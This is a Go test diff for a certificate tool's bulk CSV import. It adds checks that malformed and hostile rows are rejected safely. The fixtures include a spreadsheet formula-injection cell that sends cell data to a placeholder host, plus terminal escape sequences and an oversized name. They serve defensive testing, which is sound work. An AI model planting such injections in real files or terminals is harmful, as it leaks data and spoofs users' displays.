@@ -57,8 +57,37 @@ func TestBulkFromCSV(t *testing.T) {
 	if n := len(decodeJSON[[]map[string]any](t, s.ok("list", "--json"))); n != 5 {
 		t.Errorf("%d certificates, want the CA, 3 people and Eve", n)
 	}
-	s.fails(1, "already exists: choose an empty folder", "bulk", "--csv", dup, "--out", s.path("out2"))
+	// A re-run into the same folder appends to its sheet: everyone on it
+	// was delivered, so each is refused and the sheet is unchanged.
+	s.fails(1, "row 1 (Eve): already holds a valid certificate", "bulk", "--csv", dup, "--out", s.path("out2"))
+	os.MkdirAll(s.path("out4"), 0o700)
+	s.write("out4/passwords.csv", "not,a,sheet\n")
+	s.fails(1, "is not a Certdesk password sheet", "bulk", "--csv", dup, "--out", s.path("out4"))
 	s.fails(1, "holds no people", "bulk", "--csv", s.write("empty.csv", "name,email\n"), "--out", s.path("out3"))
+}
+
+// TestBulkHostileCSV: a bare quote is an error naming its line (it used to
+// panic in encoding/csv), and names full of terminal escapes or 50 MB long
+// reach stderr escaped and shortened.
+func TestBulkHostileCSV(t *testing.T) {
+	t.Parallel()
+	s := newSession(t)
+	s.ok("init", "--insecure-no-passphrase")
+	s.ok("ca", "create", "Team CA")
+	bare := s.write("bare.csv", "Ann,ann@example.com\n=HYPERLINK(\"http://x/\"&A2),a@example.com\n")
+	_, errOut, code := s.run("bulk", "--csv", bare, "--out", s.path("out"))
+	if code != 1 || !strings.Contains(errOut, "line 2") || strings.Contains(errOut, "panic") {
+		t.Fatalf("exit %d\n%s", code, errOut)
+	}
+	huge := strings.Repeat("\x1b[2J\x1b]0;owned\x07", 10) + strings.Repeat("N", 50<<20)
+	hostile := s.write("hostile.csv", huge+",bad-address\n\x1b[31mRed\x1b[0m,also-bad\n")
+	_, errOut, code = s.run("bulk", "--csv", hostile, "--out", s.path("out2"))
+	if code != 1 || !strings.Contains(errOut, `row 2 (\x1B[31mRed\x1B[0m)`) {
+		t.Errorf("exit %d, stderr %.500q", code, errOut)
+	}
+	if strings.ContainsAny(errOut, "\x1b\x07") || len(errOut) > 16<<10 {
+		t.Errorf("stderr holds raw escapes or is %d bytes: %.300q", len(errOut), errOut)
+	}
 }
 
 // TestCrashSafety kills `certctl bulk` with SIGKILL at random moments; after
